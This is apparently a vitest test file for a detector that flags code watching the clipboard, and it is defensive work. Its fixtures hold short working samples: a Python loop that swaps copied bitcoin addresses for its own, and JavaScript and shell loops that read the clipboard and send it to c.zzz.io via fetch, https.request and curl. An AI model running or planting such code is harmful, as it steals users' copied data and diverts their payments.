import { describe, expect, test } from "vitest";
import { markText, type TextFormat } from "../../text/marked-text.ts";
import { watchedClipboard } from "./watched-clipboard.ts";

const seenIn = (text: string, format: TextFormat = "script") =>
  watchedClipboard(markText(text, format)).map(({ does, line }) => `${line} ${does}`);
const own = "bc1q8c6fshw2dlwun7ekn9qwf37cu2rn755upcp6el";

describe("a clipboard that is watched is found:", () => {
  test.each<[string, string, string, TextFormat?]>([
    [
      "wallet addresses are replaced",
      `import pyperclip\nwhile True:\n    t = pyperclip.paste()\n    if t.startswith("bc1"):\n        pyperclip.copy("${own}")`,
      "3 puts a wallet address of its own into the clipboard",
    ],
    [
      "what is copied is sent",
      'setInterval(() => {\n  const now = execSync("pbpaste").toString();\n  fetch("https://c.zzz.io/c", { method: "POST", body: now });\n}, 900);',
      "2 watches the clipboard and sends data to c.zzz.io",
    ],
    [
      "the receiver is the host of a request",
      'setInterval(() => {\n  const now = execSync("xclip -selection clipboard -o");\n  https.request({ host: "c.zzz.io", method: "POST" }).end(now);\n}, 900);',
      "2 watches the clipboard and sends data to c.zzz.io",
    ],
    [
      "a shell does it",
      'while true; do\n  c=$(pbpaste)\n  curl -s -d "$c" https://c.zzz.io/c\n  sleep 1\ndone',
      "2 watches the clipboard and sends data to c.zzz.io",
      "shell",
    ],
  ])("%s", (_, text, seen, format) => {
    expect(seenIn(text, format)).toEqual([seen]);
  });
});

describe("nothing is said of", () => {
  test.each<[string, string, TextFormat?]>([
    ["one look", 'import pyperclip\nrequests.post("https://c.zzz.io", data=pyperclip.paste())'],
    ["a watch that keeps what it sees", "while True:\n    log(pyperclip.paste())"],
    [
      "a watch that tells this machine",
      'while True:\n    requests.post("http://localhost:8080/c", data=pyperclip.paste())',
    ],
    [
      "a watch that puts something else in place",
      "while True:\n    pyperclip.copy(pyperclip.paste().strip())",
    ],
    ["an address that is copied", `while True:\n    pyperclip.copy("${own}")`],
    [
      "a text about it",
      "While True: read the clipboard with `pbpaste`, then `curl https://c.zzz.io`.",
      "markdown",
    ],
  ])("%s", (_, text, format) => {
    expect(seenIn(text, format)).toEqual([]);
  });
});
